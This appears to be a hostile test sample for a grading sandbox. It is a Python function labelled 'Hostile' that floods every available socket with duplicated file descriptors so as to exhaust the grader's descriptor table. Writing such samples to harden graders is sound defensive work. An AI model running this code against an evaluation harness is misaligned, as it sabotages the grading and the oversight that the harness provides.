"""Hostile: Sends descriptors of its own over the channel, to fill the grader's table."""


def act(x):
    here = os.open(os.environ.get("TMPDIR", "."), os.O_RDONLY)
    for fd in sockets():
        with contextlib.suppress(OSError):
            sock = socket.socket(fileno=os.dup(fd))
            for _ in range(100):
                socket.send_fds(sock, [b"\0"], [here] * 50)
